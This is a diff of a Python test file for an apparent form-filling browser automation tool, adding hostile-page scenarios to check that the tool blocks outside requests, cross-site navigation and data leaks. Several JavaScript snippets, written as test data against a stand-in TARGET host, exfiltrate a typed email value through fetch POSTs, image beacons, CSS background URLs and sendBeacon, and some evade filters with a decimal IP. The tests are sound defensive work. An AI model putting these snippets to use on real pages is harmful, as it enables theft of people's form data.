@@ -3,15 +3,17 @@
 import http.server
 import threading
 from collections.abc import Iterator
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
+from pathlib import Path
 
 import pytest
 from websockets.asyncio.server import ServerConnection, serve
+from websockets.exceptions import ConnectionClosedError
 
-from companion.apply import Chrome
+from companion.apply import Chrome, hands
 from companion.store import Store
 from tests.ats.hostile import Hostile
-from tests.ats.road import apply, prepare
+from tests.ats.road import apply, opened, prepare, side_by_side
 
 
 @contextmanager
@@ -55,6 +57,12 @@ REACHES = {
     "worker": "new Worker(URL.createObjectURL(new Blob([\"fetch('TARGET/w', {mode: 'no-cors'})\"])))",
     "socket": "new WebSocket('TARGET/s'.replace('http', 'ws'))",
     "stylesheet": "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=TARGET/c>')",
+    "stream": "new EventSource('TARGET/e')",
+    "shared-worker": "new SharedWorker(URL.createObjectURL(new Blob([\"fetch('TARGET/k', {mode: 'no-cors'})\"])))",
+    "imported": "new Worker(URL.createObjectURL(new Blob([\"importScripts('TARGET/m')\"])))",
+    "object": "document.body.append(Object.assign(document.createElement('object'), {data: 'TARGET/o'}))",
+    "decimal": "fetch('TARGET/d'.replace('127.0.0.1', '2130706433'), {mode: 'no-cors'}).catch(() => {})",
+    "service-worker": "navigator.serviceWorker?.register('/apply').catch(() => {})",
     "prefetch": "document.head.insertAdjacentHTML('beforeend', '<link rel=prefetch href=TARGET/p>')",
 }
 
@@ -75,30 +83,45 @@ async def test_the_neighbour_is_reached_where_nothing_stands_in_the_way(store: S
         assert asked == ["GET /i"]
 
 
-@pytest.mark.parametrize(
-    "leaving",
-    [
-        "location.href = 'TARGET/next'",
-        "document.forms[0].action = 'TARGET/take'; setTimeout(() => document.forms[0].submit(), 50)",
-    ],
-    ids=["navigates", "form-action"],
-)
-async def test_a_page_that_moves_to_another_site_after_filling_is_left(
-    store: Store, chrome: Chrome, leaving: str
+LEAVES = {
+    "navigates": "location.href = 'TARGET/next'",
+    "form-action": "document.forms[0].action = 'TARGET/take'; setTimeout(() => document.forms[0].submit(), 50)",
+    "redirect": "location.href = '/away?to=' + encodeURIComponent('TARGET/landed')",
+}
+
+
+async def test_a_page_that_moves_to_another_site_after_filling_is_left(tmp_path: Path, chrome: Chrome) -> None:
+    async def leave(name: str, script: str) -> None:
+        with neighbour() as (origin, asked), Hostile(script.replace("TARGET", origin)) as clone:
+            chrome.allowed.add(origin)
+            async with opened(tmp_path / name) as store:
+                attempt = await apply(clone, store, chrome)
+            chrome.allowed.discard(origin)
+            assert [one for one in asked if "POST" in one or "/next" in one] == [], name
+            assert attempt.state == "needs_answers", name
+            assert "another site" in attempt.problem, name
+            assert attempt.screenshots, name
+            assert clone.submissions == [], name
+
+    await side_by_side(leave, LEAVES)
+
+
+async def test_a_page_that_runs_in_circles_is_given_up(
+    store: Store, chrome: Chrome, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    with neighbour() as (origin, asked), Hostile(leaving.replace("TARGET", origin)) as clone:
-        chrome.allowed.add(origin)
-        attempt = await apply(clone, store, chrome)
-        chrome.allowed.discard(origin)
-        assert [one for one in asked if "POST" in one or "/next" in one] == []
-        assert attempt.state in ("needs_answers", "failed")
-        assert attempt.screenshots
-        assert clone.submissions == []
+    monkeypatch.setattr(hands, "_FILL_WAIT", 2.0)
+    with Hostile("for (;;);") as clone:
+        attempt = await prepare(clone, store, chrome)
+        assert (attempt.state, attempt.problem) == ("needs_answers", "The page does not answer any more.")
 
 
 ODD = {
     "download": "location.href = '/file.zip'",
-    "popup": "window.open('/apply')",
+    "popup": "for (let n = 0; n < 5; n++) window.open('/apply')",
+    "blob": "const a = document.createElement('a'); a.href = URL.createObjectURL(new Blob(['x'])); a.download = 'x';"
+    "document.body.append(a); a.click()",
+    "mail": "location.href = 'mailto:someone@example.com'",
+    "print": "window.print()",
     "dialog": "alert('stop'); confirm('sure?'); prompt('why?')",
     "beforeunload": "window.onbeforeunload = (event) => { event.preventDefault(); return 'stay'; }",
     "basic-auth": "fetch('/secret')",
@@ -108,12 +131,15 @@ ODD = {
 }
 
 
-@pytest.mark.parametrize("script", ODD.values(), ids=ODD)
-async def test_what_pages_try_is_denied_and_the_run_ends(store: Store, chrome: Chrome, script: str) -> None:
-    with Hostile(script) as clone:
-        attempt = await apply(clone, store, chrome)
-        assert (attempt.state, attempt.problem) == ("submitted", "")
-        assert len(clone.submissions) == 1
+async def test_what_pages_try_is_denied_and_the_run_ends(tmp_path: Path, chrome: Chrome) -> None:
+    async def odd(name: str, script: str) -> None:
+        with Hostile(script) as clone:
+            async with opened(tmp_path / name) as store:
+                attempt = await apply(clone, store, chrome)
+            assert (name, attempt.state, attempt.problem) == (name, "submitted", "")
+            assert len(clone.submissions) == 1
+
+    await side_by_side(odd, ODD)
 
 
 async def test_a_persons_values_do_not_leave_for_a_stranger(store: Store, chrome: Chrome) -> None:
@@ -121,6 +147,8 @@ async def test_a_persons_values_do_not_leave_for_a_stranger(store: Store, chrome
         "const v = document.querySelector('[name=email]').value;"
         "fetch('TARGET/steal', {method: 'POST', mode: 'no-cors', body: 'e=' + encodeURIComponent(v)});"
         "new Image().src = 'TARGET/px?e=' + encodeURIComponent(v);"
+        "new Image().src = 'TARGET/' + encodeURIComponent(v) + '/px';"
+        "document.body.insertAdjacentHTML('beforeend', `<style>body{background:url(TARGET/c?e=${v})}</style>`);"
         "navigator.sendBeacon('TARGET/b', JSON.stringify({v}))"
     )
     with neighbour() as (origin, asked), Hostile(steal.replace("TARGET", origin)) as clone:
@@ -135,7 +163,9 @@ async def test_a_persons_values_do_not_leave_through_a_socket(store: Store, chro
     heard: list[str | bytes] = []
 
     async def listen(connection: ServerConnection) -> None:
-        heard.extend([words async for words in connection])
+        with suppress(ConnectionClosedError):  # the page goes away without a word
+            async for words in connection:
+                heard.append(words)  # noqa: PERF401 - each as it comes: the end of it is an error
 
     async with serve(listen, "127.0.0.1", 0) as server:
         origin = f"ws://127.0.0.1:{next(iter(server.sockets)).getsockname()[1]}"
